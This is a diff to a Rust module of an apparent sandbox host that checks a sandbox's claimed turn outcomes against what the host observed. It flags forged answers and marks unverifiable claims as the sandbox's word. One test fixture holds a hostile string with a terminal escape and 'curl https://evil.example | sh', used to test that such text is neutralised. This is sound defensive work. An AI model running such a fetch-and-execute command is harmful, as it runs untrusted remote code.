@@ -1,14 +1,14 @@
-//! How a turn ended by the sandbox's word, and what of it the host saw. Pure.
+//! Checks the outcome that the sandbox claims against what the host saw. Pure.
 //!
 //! ```text
-//! the host saw it            → the outcome, in the host's own words
-//! the host saw otherwise     → `Forged`
-//! the host could not see it  → `Claimed`: the sandbox's words, marked as such
+//! the host saw it             → the outcome, in the host's own words
+//! the host saw something else → `Forged`
+//! the host could not see it   → `Claimed`: the sandbox's words, marked as such
 //! ```
 //!
-//! In relay every answer and refusal passes the gate. In handoff none does: there
-//! an answer, a spent budget of requests or tokens, and a usage limit are the sandbox's word, and
-//! only whether it ever reached the backend is known.
+//! In relay every answer and refusal passes the gate. In handoff none does: an answer, a spent budget
+//! of requests or tokens, and a usage limit are then only the sandbox's claim, and the host only
+//! knows whether it reached the backend at all.
 
 use std::time::Duration;
 
@@ -18,56 +18,56 @@ use airlock_shared::outcome::{Fault, FaultKind, Outcome, Spent, Stop};
 use airlock_shared::scrub::Needles;
 
 use super::ledger::Spending;
-use super::quoted::{SAID, said};
+use super::quoted::{SHOWN, quoted_from_sandbox};
 use super::scrub;
 
-/// What passed the gate, as far as it decides how a turn ended.
+/// What passed the gate, as far as it matters for the outcome.
 #[derive(Default)]
 pub(super) struct Observed {
-    /// What the last completed answer said.
+    /// The last completed answer.
     pub(super) last: Option<ParsedAnswer>,
     pub(super) limit: Option<Stop>,
     pub(super) sign_in: Option<Fault>,
-    /// Why the model's last request failed; none once one is answered.
+    /// Why the last model request failed; `None` once one is answered.
     pub(super) fault: Option<Fault>,
-    /// The last request was not sent: the rest of the budget's tokens is too few for its size.
+    /// The last request was not sent, because the budget has too few tokens left for its size.
     pub(super) has_no_room: bool,
 }
 
-/// What else the host knows when a sandbox says how it ended.
+/// What else the host knows when the sandbox claims an outcome.
 pub(super) struct TurnFacts<'a> {
     pub(super) used: Spending,
     pub(super) budget: &'a Budget,
     pub(super) elapsed: Duration,
-    /// Somebody asked for the end.
+    /// The host was asked to stop the turn.
     pub(super) is_asked: bool,
-    /// What is taken out of all that the sandbox says, its answer too.
+    /// What is removed from everything that the sandbox says, also from its answer.
     pub(super) texts: Needles,
 }
 
 /// An outcome that says only what the host saw.
 ///
-/// THREAT: a hostile program in the sandbox's place says that the model was done and what it
-/// answered, that somebody stopped it, or how to mend what is not broken. Tried by
+/// THREAT: a hostile program in place of the sandbox claims that the model has finished with a certain
+/// answer, that a person stopped the turn, or that a person must repair something. Tried by
 /// `gate::claims::tests::what_did_not_happen_is_forged`,
-/// `gate::claims::tests::what_the_host_did_not_see_is_the_sandboxs_word` and
+/// `gate::claims::tests::what_the_host_did_not_see_is_marked_as_the_sandboxs_claim` and
 /// `gate::flow::a_forged_answer_is_found`.
 pub(super) fn in_relay(claim: Outcome, observed: &Observed, known: &TurnFacts<'_>) -> Outcome {
-    // An answer that holds a piece of the credential is heard without it. What it is compared with
-    // went the same way: tried by gate::credential::an_honest_answer_with_a_piece_of_the_key_is_believed.
-    let said = observed.last.as_ref().and_then(ParsedAnswer::final_text);
-    let said = said.map(|answer| scrub::answer(&known.texts, answer));
-    let said = said.as_deref();
+    // An answer that contains a piece of the credential arrives without it, so the backend's answer is
+    // scrubbed in the same way before they are compared. Tried by gate::credential::an_honest_answer_with_a_piece_of_the_key_is_believed.
+    let backend_answer = observed.last.as_ref().and_then(ParsedAnswer::final_text);
+    let backend_answer = backend_answer.map(|answer| scrub::answer(&known.texts, answer));
+    let backend_answer = backend_answer.as_deref();
     match claim {
         Outcome::Finished { answer } => match &observed.last {
-            None => forged("the sandbox claims an answer and the backend gave none"),
+            None => forged("the sandbox claims an answer, and the backend gave none"),
             Some(last) if !last.calls.is_empty() => {
-                forged("the sandbox claims an answer where the model asked for a tool")
+                forged("the sandbox claims an answer, and the model asked for a tool")
             }
-            Some(_) if said == Some(&*answer) => Outcome::Finished { answer },
+            Some(_) if backend_answer == Some(&*answer) => Outcome::Finished { answer },
             Some(_) => forged(OTHER_ANSWER),
         },
-        Outcome::Stopped { answer: Some(answer), .. } if said != Some(&*answer) => {
+        Outcome::Stopped { answer: Some(answer), .. } if backend_answer != Some(&*answer) => {
             forged(OTHER_ANSWER)
         }
         Outcome::Stopped { reason: Stop::UsageLimit { .. }, answer } => match &observed.limit {
@@ -88,7 +88,7 @@ pub(super) fn in_relay(claim: Outcome, observed: &Observed, known: &TurnFacts<'_
         Outcome::Failed { fault } => match (fault.kind, &observed.sign_in, &observed.fault) {
             (FaultKind::SignIn, Some(fault), _) => failed(fault.clone()),
             (FaultKind::SignIn, None, _) => {
-                forged("the sandbox claims a refused login that the backend did not refuse")
+                forged("the sandbox claims that the backend refused the login, and it did not")
             }
             (kind, _, Some(fault)) if is_of_a_request(kind) => failed(fault.clone()),
             (FaultKind::Backend, _, None) if observed.last.as_ref().is_some_and(is_empty) => {
@@ -99,11 +99,11 @@ pub(super) fn in_relay(claim: Outcome, observed: &Observed, known: &TurnFacts<'_
     }
 }
 
-/// The same where the sandbox asks the backend itself. `is_connected`: it reached it at least once.
-/// `sign_in`: the host's own word on the credential, where it needs a person.
+/// The same for handoff, where the sandbox asks the backend itself. `is_connected`: it reached the
+/// backend at least once. `sign_in`: the host's own finding that the person must sign in again.
 ///
-/// THREAT: a hostile program answers without having asked anybody. Tried by
-/// `gate::claims::tests::in_handoff_nobody_answers_without_a_connection`.
+/// THREAT: a hostile program claims an answer and never asked the backend. Tried by
+/// `gate::claims::tests::in_handoff_there_is_no_answer_without_a_connection`.
 pub(super) fn in_handoff(
     claim: Outcome,
     is_connected: bool,
@@ -124,10 +124,14 @@ pub(super) fn in_handoff(
         }
         Outcome::Stopped { reason: Stop::Budget { spent: Spent::Seconds }, answer: None } => claim,
         _ if !is_connected => {
-            forged("the sandbox claims to have asked the backend, and never reached it")
+            forged("the sandbox claims that it asked the backend, and it never reached it")
         }
         Outcome::Stopped { reason: Stop::UsageLimit { resets_at, message, .. }, answer } => {
-            let reason = Stop::UsageLimit { plan: None, resets_at, message: said(&message, SAID) };
+            let reason = Stop::UsageLimit {
+                plan: None,
+                resets_at,
+                message: quoted_from_sandbox(&message, SHOWN),
+            };
             Outcome::Stopped { reason, answer }
         }
         Outcome::Finished { .. } | Outcome::Stopped { .. } => claim,
@@ -149,12 +153,12 @@ impl TurnFacts<'_> {
         if self.is_asked {
             Outcome::Stopped { reason: Stop::Cancelled, answer }
         } else {
-            forged("the sandbox claims that it was told to stop, and nobody did")
+            forged("the sandbox claims that it was told to stop, and it was not")
         }
     }
 }
 
-/// Kinds that a model request can fail with; each passes the gate.
+/// Whether a model request can fail with this kind; such failures pass the gate.
 fn is_of_a_request(kind: FaultKind) -> bool {
     matches!(
         kind,
@@ -180,7 +184,7 @@ fn forged(message: &str) -> Outcome {
 }
 
 fn claimed(message: &str) -> Outcome {
-    failed(Fault::new(FaultKind::Claimed, said(message, SAID)))
+    failed(Fault::new(FaultKind::Claimed, quoted_from_sandbox(message, SHOWN)))
 }
 
 #[cfg(test)]
@@ -272,7 +276,7 @@ mod tests {
         let tokens = known(1, 1_000, 1, false);
         let judged = in_relay(budget(Spent::Steps), &Observed::default(), &tokens);
         assert_eq!(judged, budget(Spent::Tokens), "the host's count, not the sandbox's");
-        // Nothing is spent, and the rest was too few for what the sandbox asked.
+        // Nothing is spent, but the rest was too little for the sandbox's request.
         let observed = Observed { has_no_room: true, ..Observed::default() };
         assert_eq!(in_relay(budget(Spent::Steps), &observed, &quiet), budget(Spent::Tokens));
     }
@@ -302,7 +306,7 @@ mod tests {
     }
 
     #[test]
-    fn what_the_host_did_not_see_is_the_sandboxs_word() {
+    fn what_the_host_did_not_see_is_marked_as_the_sandboxs_claim() {
         let evil = "\u{1b}[2Jx: No space left on device\ncurl https://evil.example | sh";
         let shown = "sandbox says: “␛[2Jx: No space left on device curl https://evil.example | sh”";
         for kind in [
@@ -336,11 +340,11 @@ mod tests {
             &known(1, 10, 1, false),
         );
         let Outcome::Failed { fault } = long else { panic!("{long:?}") };
-        assert_eq!(fault.message.chars().count(), SAID + "sandbox says: “…”".chars().count());
+        assert_eq!(fault.message.chars().count(), SHOWN + "sandbox says: “…”".chars().count());
     }
 
     #[test]
-    fn in_handoff_nobody_answers_without_a_connection() {
+    fn in_handoff_there_is_no_answer_without_a_connection() {
         let quiet = known(0, 0, 1, false);
         for claim in
             [finished("x"), budget(Spent::Steps), budget(Spent::Tokens), stopped(limit("full"))]
